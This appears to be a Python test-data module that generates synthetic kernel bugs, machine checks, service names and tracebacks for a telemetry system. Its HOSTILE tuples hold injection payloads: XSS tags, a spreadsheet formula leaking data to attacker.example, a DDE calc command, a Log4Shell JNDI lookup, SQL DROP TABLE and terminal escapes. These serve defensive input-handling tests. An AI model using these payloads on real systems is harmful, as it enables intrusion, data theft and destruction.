# Commonest first: a bug's share falls with its rank.
KERNEL_BUGS = (
    KernelBug(
        "warning",
        "WARNING: CPU: {cpu} PID: {pid} at drivers/gpu/drm/i915/display/"
        "intel_display.c:{line} intel_crtc_wait_flip_done+0x1f3/0x240 [i915]",
        ("? __warn", "intel_crtc_wait_flip_done", "intel_atomic_commit_tail"),
        (
            ("intel_atomic_commit_work", *_WORKER),
            ("drm_atomic_commit", "drm_mode_atomic_ioctl", "drm_ioctl", *_SYSCALL),
        ),
        "G     U     ",
    ),
    KernelBug(
        "warning",
        "WARNING: CPU: {cpu} PID: 0 at net/sched/sch_generic.c:{line} "
        "dev_watchdog+0x22b/0x230",
        ("dev_watchdog", "call_timer_fn", "__run_timers.part.0"),
        (("run_timer_softirq", "handle_softirqs", *_IDLE),),
    ),
    KernelBug(
        "bug",
        "BUG: kernel NULL pointer dereference, address: 00000000000000{cpu:02x}",
        ("? page_fault_oops", "? exc_page_fault", "nvme_irq_poll_done"),
        (
            ("nvme_poll", "blk_mq_poll", "iocb_bio_iopoll", *_SYSCALL),
            ("nvme_timeout", "blk_mq_handle_expired", "blk_mq_timeout_work", *_WORKER),
        ),
    ),
    KernelBug(
        "warning",
        "ACPI Warning: SystemIO range conflicts with OpRegion (\\_SB.PCI0.SMBI)",
        (),
        ((),),
    ),
    KernelBug(
        "bug",
        "BUG: soft lockup - CPU#{cpu} stuck for 22s! [kworker/{cpu}:1:{pid}]",
        ("native_queued_spin_lock_slowpath", "_raw_spin_lock"),
        (
            ("btrfs_tree_read_lock", "btrfs_search_slot", "btrfs_lookup_inode"),
            ("? crypto_shash_update", "btrfs_search_slot", "btrfs_insert_empty_items"),
        ),
        "G             L",
    ),
    KernelBug(
        "panic",
        "Kernel panic - not syncing: Attempted to kill init! exitcode=0x00000009",
        ("dump_stack_lvl", "panic", "do_exit.cold"),
        (("do_group_exit", "get_signal", "arch_do_signal_or_restart", *_SYSCALL),),
    ),
    KernelBug(
        "warning",
        "WARNING: CPU: {cpu} PID: {pid} at net/mac80211/rx.c:{line} "
        "ieee80211_rx_list+0x8e0/0xb10 [mac80211]",
        ("? __warn", "ieee80211_rx_list", "ieee80211_rx_napi", "iwl_mvm_rx_mpdu_mq"),
        (("iwl_pcie_rx_handle", "iwl_pcie_napi_poll", "net_rx_action", *_IDLE),),
    ),
    KernelBug(
        "bug",
        "general protection fault, probably for non-canonical address "
        "0xdead00000000{line:04x}: 0000 [#1] PREEMPT SMP NOPTI",
        ("? die_addr", "? exc_general_protection", "list_lru_add", "retain_dentry"),
        (
            ("dput", "__fput", "task_work_run", "exit_to_user_mode_loop"),
            ("dput.part.0", "path_put", "vfs_statx", *_SYSCALL),
        ),
    ),
    KernelBug(
        "stackoverflow",
        "do_IRQ: stack overflow: {line}",
        ("do_IRQ", "common_interrupt"),
        (("? kmem_cache_alloc", "xfs_bmapi_write", "xfs_iomap_write_allocate"),),
    ),
    KernelBug(
        "bug",
        "kernel BUG at mm/filemap.c:{line}!",
        ("filemap_unaccount_folio", "__filemap_remove_folio"),
        (("truncate_inode_pages_range", "evict", "do_unlinkat", *_SYSCALL),),
        "P           OE ",
    ),
)

MODULES = (
    "fuse rfcomm bnep btusb btintel bluetooth iwlmvm mac80211 iwlwifi cfg80211 "
    "snd_sof_pci_intel_tgl snd_hda_codec_hdmi i915 e1000e",
    "nvme_core xfs libcrc32c ixgbe mdio dca ipmi_si ipmi_msghandler acpi_power_meter "
    "intel_rapl_msr kvm_intel kvm",
    "nvidia_drm(POE) nvidia_modeset(POE) nvidia(POE) amdgpu drm_ttm_helper ttm r8169",
)
REGISTERS = (
    *("EFLAGS", "RSP", "RCX", "RBX", "RAX", "RDI", "RSI", "RDX"),
    *("RBP", "R12", "CR3", "CR2"),
)

# --- Memory and processor errors ----------------------------------------------------


class MachineCheck(NamedTuple):
    """One sort of machine check, as mcelog prints it."""

    event: str
    severity: int
    bank: int
    addressed: bool
    lines: str
    status: str
    mcg_status: int = 0


_CORRECTED = "Corrected error\nError enabled"
_UNCORRECTED = "Uncorrected error\nError enabled"
_ADDRESSED = "MCi_MISC register valid\nMCi_ADDR register valid"

# Commonest first: a check's share falls steeply with its rank.
MACHINE_CHECKS = (
    MachineCheck(
        "corrected",
        2,
        7,
        True,
        f"{_CORRECTED}\n{_ADDRESSED}\nMCA: MEMORY CONTROLLER RD_CHANNEL1_ERR\n"
        "Transaction: Memory read error",
        "9c00004001010091",
    ),
    MachineCheck(
        "corrected",
        2,
        13,
        True,
        f"{_CORRECTED}\n{_ADDRESSED}\nMCA: MEMORY CONTROLLER MS_CHANNEL2_ERR\n"
        "Transaction: Memory scrubbing error",
        "8c000040000800c2",
    ),
    MachineCheck(
        "corrected",
        2,
        1,
        False,
        f"{_CORRECTED}\nMCA: Data CACHE Level-1 Data-Read Error",
        "9000004000000135",
    ),
    MachineCheck(
        "corrected",
        2,
        2,
        False,
        f"Error overflow\n{_CORRECTED}\nMCA: Data TLB Level-1 Error",
        "d000008000000015",
    ),
    MachineCheck(
        "UCNA",
        4,
        7,
        True,
        f"{_UNCORRECTED}\n{_ADDRESSED}\nMCA: MEMORY CONTROLLER RD_CHANNEL1_ERR\n"
        "Transaction: Memory read error",
        "bc00000001010091",
    ),
    MachineCheck(
        "SRAO",
        4,
        8,
        True,
        f"{_UNCORRECTED}\n{_ADDRESSED}\nSRAO\n"
        "MCA: MEMORY CONTROLLER MS_CHANNEL1_ERR\nTransaction: Memory scrubbing error",
        "bd000000000000c1",
        4,
    ),
)

# --- Everything else ----------------------------------------------------------------

SERVICES = (
    "systemd-networkd-wait-online.service",
    "docker.service",
    "tuned.service",
    "nightly-backup.service",
    "bluetooth.service",
    "fwupd-refresh.service",
    "acme-sync@eu-1.service",
)
BUNDLES = (
    "c-basic",
    "containers-basic",
    "desktop-autostart",
    "devpkg-gtk4",
    "editors",
    "git",
    "nodejs-basic",
    "os-clr-on-clr",
    "python3-basic",
    "texlive",
    "vim",
    "web-server-basic",
)
TRACEBACKS = (
    (
        "/usr/bin/fleet-report",
        "    totals = summarise(rows)\n"
        '  File "/usr/lib/python3.13/site-packages/fleet/report.py", line 58, in '
        "summarise\n    return sum(rows) / len(rows)\n",
        "ZeroDivisionError: division by zero",
    ),
    (
        "/usr/bin/clr-power-tweaks.py",
        "    value = settings[name]\n",
        "KeyError: 'energy_performance_preference'",
    ),
    (
        "/usr/bin/mirror-check",
        "    answer = urlopen(address, timeout=10)\n"
        '  File "/usr/lib/python3.13/urllib/request.py", line 1322, in do_open\n'
        "    raise URLError(err)\n",
        "urllib.error.URLError: <urlopen error [Errno -2] Name or service not known>",
    ),
)
HOSTILE = (
    "<script>document.title = 'owned'</script><img src=x onerror=alert(1)>\n",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click here")\n',
    "@SUM(1+1)*cmd|' /C calc'!A0\n+1\n-1\n\t=1+1\n",
    "one very long line: " + "0123456789abcdef" * 1250 + "\n",
    "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;new window title\x07 and a bell\x07\r\nlog: ok\n",
    "grüße aus Zürich, здравствуйте, こんにちは, مرحبا, \u202egnihtyreve\u202c\n",
    "🔥💥 thermal paste missing 👩🏽\u200d🔧 \N{REPLACEMENT CHARACTER} after a NUL\n",
    "{{ settings.SECRET_KEY }} {% load static %} ${jndi:ldap://x.example/a} %s %n\n",
    "</pre></textarea></script><svg onload=alert(2)>'\"`--><!--\n",
    "'; DROP TABLE records_record; --\n\\u0000 \\x00 %00 \x0b\x0c\n",
)
HOSTILE_CLASSIFICATIONS = (
    ("org.clearlinux/hello/world", 1),
    ("org.clearlinux/journal/error", 2),
    ("com.example/\"><img src=x>/50% off, 'today'", 3),
    ("=cmd|calc/ /", 4),
)
